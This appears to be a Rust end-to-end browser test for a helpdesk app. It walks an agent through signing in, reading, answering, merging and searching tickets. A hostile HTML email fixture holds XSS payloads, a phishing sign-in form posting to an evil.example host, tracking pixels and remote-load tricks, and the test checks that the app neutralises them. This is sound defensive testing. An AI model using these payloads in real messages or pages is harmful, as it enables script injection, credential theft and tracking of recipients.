//! The agent's day: signing in, finding a ticket, reading a letter that means harm, answering, changing,
//! merging, searching, leaving. It reads the same with scripts and without, in English and in German.

use crate::browser;
use crate::driver::Browser;
use crate::house::{AGENT, House, PASSWORD};

const ENTER: &str = "\u{E007}";

/// A letter that tries whatever a letter can try.
const HOSTILE: &str = "From: Mallory <mallory@customer.example>\r\nTo: support@office.example\r\n\
    Subject: Invoice <script>alert('subject')</script> 4711\r\nMessage-ID: <harm@customer.example>\r\n\
    Date: Fri, 15 Jan 2027 07:00:00 +0000\r\nMIME-Version: 1.0\r\n\
    Content-Type: text/html; charset=utf-8\r\n\r\n\
    <html><head><base href=\"http://base.evil.example/\">\r\n\
    <meta http-equiv=\"refresh\" content=\"0;url=http://refresh.evil.example/\">\r\n\
    <link rel=\"stylesheet\" href=\"http://sheet.evil.example/x.css\">\r\n\
    <link rel=\"prefetch\" href=\"http://prefetch.evil.example/x\">\r\n\
    <style>@import url(http://import.evil.example/x.css); body { background: url(http://css.evil.example/x.png) }</style>\r\n\
    <title>Taken over</title></head><body onload=\"alert('load')\" background=\"http://body.evil.example/x.png\">\r\n\
    <script>document.title = 'Taken over'; alert('script'); top.location = 'http://top.evil.example/'</script>\r\n\
    <p>Please pay the <b>attached invoice</b> today.</p>\r\n\
    <img src=\"http://tracker.evil.example/pixel.gif\" alt=\"pixel\"><img src=\"x\" onerror=\"alert('picture')\">\r\n\
    <img srcset=\"https://set.evil.example/a.png 1x\"><svg onload=\"alert('svg')\"><image href=\"http://svg.evil.example/x\"/></svg>\r\n\
    <div style=\"background-image:url(http://style.evil.example/x.png);position:fixed;top:0\">Over everything</div>\r\n\
    <form action=\"http://form.evil.example/\"><input name=\"password\" autofocus onfocus=\"alert('focus')\"><button>Sign in</button></form>\r\n\
    <iframe src=\"http://frame.evil.example/\"></iframe><iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>\r\n\
    <object data=\"http://object.evil.example/\"></object><embed src=\"http://embed.evil.example/\">\r\n\
    <video src=\"http://video.evil.example/\" autoplay></video><audio src=\"http://audio.evil.example/\" autoplay></audio>\r\n\
    <a href=\"javascript:alert('link')\">a link</a></body></html>\r\n";

/// Another letter of the same person, which cites nothing.
const SECOND: &str = "From: Mallory <mallory@customer.example>\r\nTo: support@office.example\r\n\
    Subject: Well?\r\nMessage-ID: <well@customer.example>\r\n\
    Date: Fri, 15 Jan 2027 07:30:00 +0000\r\n\r\nDid you get my invoice?\r\n";

#[test]
fn an_agents_day() {
    day("en-GB,en", true);
}

#[test]
fn an_agents_day_without_scripts() {
    day("en-GB,en", false);
}

#[test]
fn an_agents_day_in_german() {
    day("de-DE,de", true);
}

fn day(languages: &'static str, scripts: bool) {
    let mut house = House::open();
    let Some(browser) = browser(&house, languages, scripts) else { return };
    let language = &languages[..2];
    if !scripts {
        runs_nothing(&browser);
    }

    // By the link that is printed once.
    let link = house.link(AGENT);
    browser.go(&link);
    assert_eq!(browser.run("return document.documentElement.lang"), language);
    browser.follow("form[action^='/sign-in/link/'] button");
    assert_eq!(browser.path(), "/tickets");
    leave(&browser);
    browser.go(&link);
    assert!(!browser.has("form[action^='/sign-in/link/']"), "the link is used up, and says so");
    assert!(!browser.has("form.who"), "nobody is signed in");
    // What is asked for without being signed in is shown after signing in.
    let number = house.letter(HOSTILE);
    browser.go("/tickets?view=unassigned");
    sign_in(&browser, PASSWORD.trim_end_matches('e'));
    assert!(browser.has("#wrong"), "a wrong password is told");
    sign_in(&browser, PASSWORD);
    assert_eq!(browser.path(), "/tickets?view=unassigned");

    find_and_read(&house, &browser, number);
    answer(&mut house, &browser, number);
    change(&house, &browser, number);
    merge(&mut house, &browser, number);
    search(&browser, number);

    requester(&browser, number);

    leave(&browser);
    for path in ["/tickets", &format!("/tickets/{number}"), "/search?q=invoice", "/keys"] {
        browser.go(path);
        assert!(browser.path().starts_with("/sign-in?next="), "{path} needs somebody signed in");
    }
    nothing_left(&house, &browser);
    the_trap_would_have_noticed(&house, &browser);
}

/// Without scripts a page really runs none.
fn runs_nothing(browser: &Browser) {
    browser.go_to("data:text/html,<title>before</title><script>document.title='after'</script>");
    assert_eq!(browser.title(), "before");
}

pub(crate) fn sign_in(browser: &Browser, password: &str) {
    browser.rewrite("#name", AGENT);
    browser.rewrite("#password", password);
    browser.follow("form[action='/sign-in'] button");
}

fn leave(browser: &Browser) {
    browser.follow("form[action='/sign-out'] button");
    assert!(browser.has(".top a[href='/sign-in']"), "signed out");
}

/// Finds the letter in the list and reads it, as text and as it was laid out. It does nothing at all.
fn find_and_read(house: &House, browser: &Browser, number: i64) {
    let page = format!("/tickets/{number}");
    browser.follow(&format!(".tickets a[href='{page}']"));
    let title = browser.title();
    assert!(title.contains(&number.to_string()), "{title}");
    browser.sees("Invoice <script>alert('subject')</script> 4711");
    browser.sees("attached invoice");

    browser.follow(".conversation a[href*='html=']");
    assert_eq!(browser.title(), title);
    let shown = letter(browser);
    assert!(shown.contains("attached invoice"), "the letter is in its frame: {shown}");
    for bad in
        ["<script", "<iframe", "<form", "<input", "<object", "<embed", "onerror", "javascript:"]
    {
        assert!(!shown.to_lowercase().contains(bad), "{bad} in {shown}");
    }
    browser.follow(".conversation .more a:not([href*='html='])");
    assert!(!browser.has("iframe"), "as text again");
    browser.sees("attached invoice");
    assert_eq!(browser.title(), title);
    assert_eq!(browser.dialog(), None);
    nothing_left(house, browser);
}

/// The markup in the frame of a letter.
fn letter(browser: &Browser) -> String {
    browser.inside("iframe", |browser| {
        browser.wait("the letter in its frame", |browser| {
            browser.source().filter(|source| source.contains("</p>"))
        })
    })
}

/// Answers, keeps a note, and sees that the answer left.
fn answer(house: &mut House, browser: &Browser, number: i64) {
    browser.write("#text", "We pay nothing that we did not order.\nGreetings & <b>thanks</b>");
    let file = house.file("Unser Überblick.txt", "ordered: nothing\r\n");
    browser.write("#write input[type=file]", &file);
    // First as it would leave, and back: nothing of it is lost.
    browser.follow("#write .buttons button[value=show]");
    browser.sees("We pay nothing that we did not order.");
    browser.sees("Unser Überblick.txt");
    browser.follow(".back a");
    let kept = browser.run("return document.querySelector('#text').value");
    assert!(kept.as_str().unwrap().starts_with("We pay nothing"), "{kept}");
    browser.sees("Unser Überblick.txt");
    browser.follow("#write button[value=reply]");
    assert!(browser.path().starts_with(&format!("/tickets/{number}")), "{}", browser.path());
    house.work();
    let left = house.left_for("mallory@customer.example");
    let ours = left.iter().filter(|raw| raw.contains("We pay nothing that we did not order."));
    let ours: Vec<_> = ours.collect();
    assert_eq!(ours.len(), 1, "the answer left once: {left:#?}");
    let parsed = counterfoil::mail::parse::parse(ours[0].as_bytes());
    let files = parsed.attachments.iter().map(|it| (it.filename.as_str(), it.bytes.as_slice()));
    let expected = [("Unser Überblick.txt", b"ordered: nothing\r\n".as_slice())];
    assert_eq!(files.collect::<Vec<_>>(), expected, "with its attachment");
    browser.go(&format!("/tickets/{number}"));
    assert!(browser.has(".article.out .mark.good"), "the page says that it was sent");
    browser.sees("Greetings & <b>thanks</b>");

    browser.write("#text", "Tell the police.");
    browser.follow("#write button[value=note]");
    house.work();
    assert!(browser.text(".article.note").contains("Tell the police."));
    let left = house.left_for("mallory@customer.example");
    assert!(!left.iter().any(|raw| raw.contains("police")), "a note stays here");
}

/// Gives the ticket to somebody, in another state.
fn change(house: &House, browser: &Browser, number: i64) {
    browser.go(&format!("/tickets/{number}"));
    browser.click(".change select[name=assignee] option[value=ben]");
    browser.click(".change select[name=state] option[value=pending]");
    browser.follow(".change button[value=change]");
    assert!(browser.text(".facts").contains("ben"));
    let tickets = house.office.tickets();
    let ticket = tickets.iter().find(|ticket| ticket.number.0 == number).unwrap();
    assert_eq!(ticket.assignee.as_deref(), Some("ben"));
    assert_eq!(ticket.state.to_string(), "pending");
    browser.go("/tickets?view=pending");
    assert!(browser.has(&format!(".tickets a[href='/tickets/{number}']")));
}

/// The same person wrote twice about it: both become one, after a look at both sides.
fn merge(house: &mut House, browser: &Browser, number: i64) {
    let second = house.letter(SECOND);
    assert_ne!(second, number);
    browser.go(&format!("/tickets/{second}"));
    browser.click("details.change:has(#other) summary");
    browser.write("#other", &number.to_string());
    browser.follow("details.change button[value=merge]");
    browser.sees("Did you get my invoice?");
    browser.sees("attached invoice");
    let merged = |house: &House| {
        let tickets = house.office.tickets();
        tickets.iter().find(|ticket| ticket.number.0 == second).unwrap().merged_into
    };
    assert_eq!(merged(house), None, "asking merges nothing");
    browser.follow("button[value=merge-now]");
    assert_eq!(browser.path(), format!("/tickets/{number}"));
    browser.sees("Did you get my invoice?");
    assert_eq!(merged(house).map(|into| into.0), Some(number));
}

/// Finds it again by a word of its text.
fn search(browser: &Browser, number: i64) {
    browser.go("/tickets");
    browser.write(".search input[name=q]", "\"attached invoice\" from:mallory");
    let old = browser.find("html");
    browser.press(ENTER);
    browser.wait("what was found", |browser| {
        (browser.path().starts_with("/search?") && browser.find("html") != old).then_some(())
    });
    browser.follow(&format!("main a[href^='/tickets/{number}']"));
    assert!(browser.path().starts_with(&format!("/tickets/{number}")));
}

/// Sees all that the same person wrote.
fn requester(browser: &Browser, number: i64) {
    browser.go("/tickets?view=all");
    let row = format!(".tickets li:has(a[href='/tickets/{number}'])");
    browser.follow(&format!("{row} a[href^='/requesters/']"));
    browser.sees("mallory@customer.example");
    assert!(browser.has(&format!(".tickets a[href='/tickets/{number}']")));
}

/// No page and no letter asked anybody else for anything.
fn nothing_left(house: &House, browser: &Browser) {
    let caught = house.trap.caught("evil.example");
    assert!(caught.is_empty(), "something was asked of another host: {caught:#?}");
    let sent = requests(browser);
    assert!(!sent.is_empty(), "the network is watched");
    // What the browser's own first page loads out of itself is not of the network.
    let inside = |url: &&String| !["data:", "chrome:"].iter().any(|own| url.starts_with(own));
    let foreign = |url: &&String| !url.starts_with(&browser.home) && inside(url);
    let foreign: Vec<_> = sent.iter().filter(foreign).collect();
    assert!(foreign.is_empty(), "asked of others: {foreign:#?}");
}

/// What the browser asked for since the last time.
fn requests(browser: &Browser) -> Vec<String> {
    let sent = browser.log("performance").into_iter().filter_map(|entry| {
        let message: serde_json::Value = serde_json::from_str(entry["message"].as_str()?).ok()?;
        let message = &message["message"];
        let asked = message["method"] == "Network.requestWillBeSent";
        asked.then(|| message["params"]["request"]["url"].as_str().map(str::to_owned))?
    });
    sent.collect()
}

/// The two tests above can fail: what does leave is caught, and is in the log.
fn the_trap_would_have_noticed(house: &House, browser: &Browser) {
    browser.go_to("data:text/html,<img src='http://probe.evil.example/x.png'>");
    browser
        .wait("the trap", |_| (!house.trap.caught("probe.evil.example").is_empty()).then_some(()));
    assert!(requests(browser).iter().any(|url| url.contains("probe.evil.example")));
}
